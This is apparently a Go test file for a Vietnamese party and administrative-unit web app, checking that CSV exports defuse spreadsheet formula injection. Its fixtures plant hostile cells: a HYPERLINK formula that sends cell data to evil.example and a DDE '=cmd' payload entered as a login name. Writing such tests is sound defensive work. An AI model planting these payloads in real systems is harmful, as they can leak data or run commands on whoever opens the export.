package server

import (
	"bytes"
	"encoding/csv"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"ptdang/internal/account"
	"ptdang/internal/org"
)

// plainNumber is a cell that is a number as we write them: -5, 0,125, -48,02 %.
var plainNumber = regexp.MustCompile(`^-?[0-9][0-9.,]*( ?%)?$`)

// formulaCells returns the cells of the CSV file body that Excel would run as formulas.
func formulaCells(t *testing.T, body string) []string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	var bad []string
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				bad = append(bad, cell)
			}
		}
	}
	return bad
}

func TestNoCSVExportHoldsAFormula(t *testing.T) {
	s, base := newTestServer(t)
	f := dashboardFixture(t, s, base)
	ctx, all := t.Context(), org.Everything()
	// Formulas planted where anyone with a form can put them: unit names and codes, and a login name
	// typed on the sign-in page by someone with no account at all.
	const evilName = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	commune, _, err := org.CreatePartyUnit(ctx, s.DB, all, org.PartyUnitInput{Code: "TU.X03", Name: evilName,
		Kind: org.CommuneCommittee, OrgType: "territorial", ParentID: f.province, From: day("2015-01-01")})
	if err != nil {
		t.Fatal(err)
	}
	cell, _, err := org.CreatePartyUnit(ctx, s.DB, all, org.PartyUnitInput{Code: "-B2", Name: "+84 ấp Mới",
		Kind: org.AffiliatedCell, OrgType: "territorial", ParentID: commune, From: day("2015-01-01"), FullMembers: 3})
	if err != nil {
		t.Fatal(err)
	}
	adminCommune, err := org.GetAdminUnitByCode(ctx, s.DB, all, "DN.X01", day("2020-01-01"))
	if err != nil {
		t.Fatal(err)
	}
	hamlet, err := org.CreateAdminUnit(ctx, s.DB, all, org.AdminUnitInput{Code: "-A1", Name: "@SUM(1+1)", Level: org.Hamlet,
		LocalWord: "ấp", ParentID: adminCommune.ID, From: day("2015-01-01")})
	if err != nil {
		t.Fatal(err)
	}
	if err := org.SetLink(ctx, s.DB, all, hamlet, cell, org.OwnCell, day("2015-01-01")); err != nil {
		t.Fatal(err)
	}
	const evilLogin = `=cmd|' /C calc'!A0`
	if resp, body := send(t, &http.Client{}, "POST", base+"/login", url.Values{"login": {evilLogin}, "password": {"x"}}); resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("sign-in: %d\n%s", resp.StatusCode, body)
	}

	for _, c := range []struct {
		name, path string
		planted    string // the neutralised cell the export must hold
	}{
		{"audit", "/admin/audit.csv", "'" + strings.ToLower(evilLogin)},
		{"party units", "/org/export/party.csv?date=2024-01-01", "'" + evilName},
		{"admin units", "/org/export/admin.csv?date=2024-01-01", "'@SUM(1+1)"},
		{"links", "/org/export/links.csv?date=2024-01-01", "'-A1"},
		{"targets", "/targets/export.csv?unit=" + itoa(f.province) + "&year=2022", "'" + evilName},
		{"dashboard", "/dashboard.csv?unit=" + itoa(f.province), "'" + evilName},
	} {
		t.Run(c.name, func(t *testing.T) {
			client := f.staff
			if c.name == "audit" {
				client = f.clients[string(account.SystemAdmin)]
			}
			resp, body := send(t, client, "GET", base+c.path, nil)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%d\n%s", resp.StatusCode, body)
			}
			if bad := formulaCells(t, body); len(bad) > 0 {
				t.Errorf("cells Excel would run: %q\n%s", bad, body)
			}
			r := csv.NewReader(strings.NewReader(body))
			r.FieldsPerRecord = -1
			records, _ := r.ReadAll()
			found := false
			for _, rec := range records {
				for _, cell := range rec {
					found = found || cell == c.planted
				}
			}
			if !found {
				t.Errorf("no cell %q in\n%s", c.planted, body)
			}
		})
	}

	// Our own export imports back unchanged: the quotes come off again, and no name changes.
	for _, table := range []string{"party", "admin", "links"} {
		_, file := send(t, f.staff, "GET", base+"/org/export/"+table+".csv?date=2024-01-01", nil)
		var body bytes.Buffer
		mw := multipart.NewWriter(&body)
		part, _ := mw.CreateFormFile("file", table+".csv")
		part.Write([]byte(file))
		mw.WriteField("table", table)
		mw.WriteField("dry_run", "1")
		mw.Close()
		resp, err := f.staff.Post(base+"/org/import", mw.FormDataContentType(), &body)
		if err != nil {
			t.Fatal(err)
		}
		html, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || !strings.Contains(string(html), "không có lỗi") {
			t.Errorf("%s.csv imported back: %d\n%s", table, resp.StatusCode, html)
		}
		for _, code := range []string{"TU.X03", "-B2", "-A1"} {
			if strings.Contains(string(html), "sửa "+code) || strings.Contains(string(html), "thêm "+code) ||
				strings.Contains(string(html), "thôn "+code) {
				t.Errorf("%s.csv imported back changes %s:\n%s", table, code, html)
			}
		}
	}
}
